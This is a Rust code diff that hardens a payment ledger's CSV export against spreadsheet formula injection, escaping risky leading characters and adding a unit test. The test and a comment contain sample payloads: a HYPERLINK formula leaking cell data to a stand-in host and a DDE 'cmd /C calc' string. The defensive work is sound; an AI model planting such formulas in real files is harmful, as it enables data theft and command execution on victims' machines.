@@ -112,7 +112,8 @@ pub fn json_line(entry: &Entry, offset_at: &dyn Fn(i64) -> UtcOffset) -> String 
 pub const CSV_HEADER: &str =
     "time,amount_yuan,amount_fen,kind,payer,remark,account,msg_id,transfer_id,announced_at";
 
-/// One CSV row (RFC 4180 quoting), no newline.
+/// One CSV row (RFC 4180 quoting), no newline. Every cell is [`csv_cell`]'s: names and
+/// remarks come from the network and the owner opens the file in Excel or WPS.
 pub fn csv_row(entry: &Entry, offset_at: &dyn Fn(i64) -> UtcOffset) -> String {
     let p = &entry.payment;
     let at = |t: i64| rfc3339(t, offset_at(t));
@@ -129,16 +130,26 @@ pub fn csv_row(entry: &Entry, offset_at: &dyn Fn(i64) -> UtcOffset) -> String {
         entry.announced_at.map(at).unwrap_or_default(),
     ]
     .iter()
-    .map(|field| csv_quote(field))
+    .map(|field| csv_cell(field))
     .collect::<Vec<_>>()
     .join(",")
 }
 
-fn csv_quote(field: &str) -> String {
+/// One cell: a text a spreadsheet would take for a formula (starting with `=`, `+`, `-`,
+/// `@`, a tab or a carriage return: a payer who named themselves
+/// `=HYPERLINK("http://…"&A1,"点我")`) gets a leading `'`, as OWASP's CSV-injection advice
+/// says, so it shows as the text it is; then RFC 4180 quoting. `paysay ledger --json`
+/// and the page's JSON keep the exact text.
+fn csv_cell(field: &str) -> String {
+    let field = if field.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{field}")
+    } else {
+        field.to_string()
+    };
     if field.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", field.replace('"', "\"\""))
     } else {
-        field.to_string()
+        field
     }
 }
 
@@ -245,6 +256,29 @@ mod tests {
             serde_json::json!({"shop": "delivered", "vmq": "rejected"})
         );
         assert!(!line.contains('\n'));
+    }
+
+    #[test]
+    fn csv_cells_a_spreadsheet_would_run_are_text() {
+        for (field, cell) in [
+            (
+                r#"=HYPERLINK("http://x.example/?"&A1,"点我")"#,
+                r#""'=HYPERLINK(""http://x.example/?""&A1,""点我"")""#,
+            ),
+            (
+                "+SUM(1,2)*cmd|' /C calc'!A0",
+                "\"'+SUM(1,2)*cmd|' /C calc'!A0\"",
+            ),
+            ("-2+3", "'-2+3"),
+            ("@SUM(1,2)", "\"'@SUM(1,2)\""),
+            ("\tx", "'\tx"),
+            ("\rx", "\"'\rx\""),
+            ("张三", "张三"),
+            ("a=b", "a=b"),
+            ("", ""),
+        ] {
+            assert_eq!(csv_cell(field), cell, "{field:?}");
+        }
     }
 
     #[test]
